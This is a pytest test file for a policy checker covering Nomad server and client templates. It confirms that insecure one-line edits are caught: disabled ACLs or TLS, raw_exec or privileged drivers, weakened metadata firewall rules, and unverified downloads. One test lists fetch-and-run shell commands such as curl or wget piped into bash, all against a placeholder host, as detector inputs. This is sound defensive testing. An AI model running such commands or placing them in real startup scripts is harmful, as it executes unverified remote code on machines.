"""Rules on Nomad's machines: one changed line of a startup script, of a certificate or of a firewall breaks each."""

from collections.abc import Callable
from typing import Any

import pytest

from policy.judge import judge
from policy.parts import agents
from policy.rules import ALL
from policy.settings import PolicySettings
from tests.policy.cases import Case, check, put
from tests.policy.conftest import TODAY, changed, stack

SERVER = "nomad-eu-servers-0-template"
CLIENT = "nomad-eu-clients-train-template"
TEMPLATE = "gcp:compute/instanceTemplate:InstanceTemplate"


def script(old: str, new: str) -> Callable[[dict[str, Any]], object]:
    """An edit of each such text in the startup script."""

    def edit(inputs: dict[str, Any]) -> None:
        text = inputs["metadata"]["startup-script"]
        assert old in text, f"no {old!r} in the script"
        inputs["metadata"]["startup-script"] = text.replace(old, new)

    return edit


CASES = (
    Case("nomad-agent-acl", SERVER, script('"acl": {\n    "enabled": true', '"acl": {\n    "enabled": false'), "acl"),
    Case("nomad-agent-tls", SERVER, script('"rpc": true', '"rpc": false'), "tls.rpc is not true"),
    Case(
        "nomad-agent-tls", CLIENT, script('"verify_server_hostname": true', '"verify": 1'), "tls.verify_server_hostname"
    ),
    Case("nomad-agent-tls", CLIENT, script('"http": true', '"http": true, "rpc_upgrade_mode": true'), "without TLS"),
    Case("nomad-agent-drivers", CLIENT, script('"docker,exec"', '"docker,raw_exec"'), "allowlist has raw_exec"),
    Case("nomad-agent-drivers", CLIENT, script('"driver.allowlist": "docker,exec",', ""), "has no driver.allowlist"),
    Case(
        "nomad-agent-drivers",
        CLIENT,
        script('"raw_exec": [\n', '"raw_exec": [{"config": {"enabled": true}},\n'),
        "raw_exec is enabled",
    ),
    Case("nomad-agent-drivers", CLIENT, script('"allow_privileged": false', '"allow_privileged": true'), "privileged"),
    Case("nomad-agent-root", CLIENT, script('"root,Administrator"', '"Administrator"'), "denylist has no root"),
    Case("nomad-agent-root", CLIENT, script('drivers": "exec"', 'drivers": "java"'), "checked_drivers has no exec"),
    Case("nomad-agent-gossip-key", SERVER, script("/etc/nomad.d/gossip.json", "/run/gossip.json"), "server.encrypt"),
    Case("nomad-agent-metadata", CLIENT, script("! --dport 53 --jump REJECT", "! --dport 53 --jump RETURN"), "contain"),
    Case("nomad-agent-metadata", CLIENT, script("in tcp udp", "in udp"), "nothing keeps containers"),
    Case("nomad-agent-metadata", CLIENT, script("! --uid-owner 0", "--uid-owner 1000"), "tasks on the machine itself"),
    Case("nomad-agent-metadata", CLIENT, script("server=169.254.169.254", "server=169.254.169.253"), "containers"),
    Case(
        "nomad-agent-metadata",
        CLIENT,
        script("systemctl restart mlops-metadata.service", "# systemctl restart mlops-metadata.service"),
        "nothing keeps containers",
    ),
    Case(
        "nomad-agent-snapshots",
        SERVER,
        script("timer mlops-snapshot.timer mlops-report", "timer mlops-report"),
        "no timer",
    ),
    Case("nomad-agent-snapshots", SERVER, script("nomad operator snapshot save", "true"), "saves a snapshot"),
    Case("nomad-agent-key-rotation", SERVER, script('"87600h"', '"720h"'), "is 720h"),
    Case(
        "nomad-agent-key-rotation",
        SERVER,
        script('"root_key_rotation_threshold": "87600h",', ""),
        "not set, which is 720h",
    ),
    Case(
        "machine-script-downloads",
        CLIENT,
        script("set -euo pipefail\ninstall", "set -euo pipefail\ncurl -sL https://x.example/y | bash\ninstall"),
        "the script itself runs what another command answers: curl",
    ),
    Case("machine-script-downloads", SERVER, script("sha256sum --check --status", "echo"), "machine.sh keeps what it"),
    Case("machine-script-downloads", CLIENT, script("--require-hashes ", ""), "store-program.sh installs what nothing"),
    Case("machine-script-elsewhere", CLIENT, put("metadata", "startup-script-url", to="gs://x/y.sh"), "elsewhere"),
    Case("certificate-renewal", "nomad-eu-certificates-client", put("earlyRenewalHours", to=24), "anew 24 before"),
    Case("certificate-renewal", "nomad-eu-certificates-client", put("earlyRenewalHours", to=9000), "by every update"),
    Case("nomad-gossip-ports", "nomad-eu-firewall-members", lambda inputs: inputs["allows"].pop(), "by tcp alone"),
)


@pytest.mark.parametrize("case", CASES, ids=str)
def test_one_changed_line_breaks_the_rule(case: Case) -> None:
    check(case)


@pytest.mark.parametrize(
    ("command", "says"),
    [
        ("bash <(curl -s https://x.example/y)", "runs what"),
        ('eval "$(wget -qO- https://x.example/y)"', "runs what"),
        ("curl https://x.example/y | sudo -E bash -s -- --yes", "runs what"),
        ("curl https://x.example/y |\n    python3 -", "runs what"),
        ("curl https://x.example/y \\\n    | tee /tmp/y | sh", "runs what"),
        (". <(google https://x.example/y)", "runs what"),
        ("wget https://x.example/y", "keeps what"),
        ("curl -fsSLo /usr/local/bin/y https://x.example/y", "keeps what"),
        ("curl https://x.example/y >/usr/local/bin/y", "keeps what"),
        ("git clone https://x.example/y", "installs what"),
        # These run nothing that comes from elsewhere.
        ('secret "$TOKEN" | bash /usr/local/lib/mlops/bootstrap.sh', ""),
        ("curl --fail --output /dev/null https://x.example/y", ""),
        ("curl https://127.0.0.1:4646/v1/metrics >/run/metrics.json", ""),
        ("curl https://x.example/y | jq .", ""),
        ("# curl https://x.example/y | bash", ""),
    ],
)
def test_what_a_machine_runs_from_elsewhere_is_found_however_it_is_written(command: str, says: str) -> None:
    inventory = changed(
        stack("prod"), TEMPLATE, CLIENT, script("\nbash /usr/local/lib/mlops/store-program.sh\n", f"\n{command}\n")
    )
    found = judge(inventory, PolicySettings(), ALL, TODAY)
    told = [verdict.message for verdict in found if verdict.rule == "machine-script-downloads"]
    assert [says in message for message in told] == ([True] if says else []), told


def test_machines_of_nomads_without_a_configuration_that_can_be_read_are_not_decided() -> None:
    inventory = changed(stack("prod"), TEMPLATE, CLIENT, script('"acl": {', '"acl" {'))
    states = {
        verdict.state for verdict in judge(inventory, PolicySettings(), ALL, TODAY) if verdict.rule == "nomad-agent-acl"
    }
    assert states == {"not decided"}


def test_what_is_started_is_followed_through_units_and_programs() -> None:
    def of(name: str) -> agents.Script:
        found = next(resource for resource in stack("prod").resources if resource.name == name)
        return next(iter(agents.scripts(found))).value

    assert of(SERVER).units == {
        "nomad.service",
        *(f"mlops-{each}.timer" for each in ("certificates", "report", "snapshot")),
    }
    assert {"server.sh", "snapshot.sh", "machine.sh"} <= set(of(SERVER).programs)
    assert {"client.sh", "metadata-guard.sh", "store-program.sh"} <= set(of(CLIENT).programs)
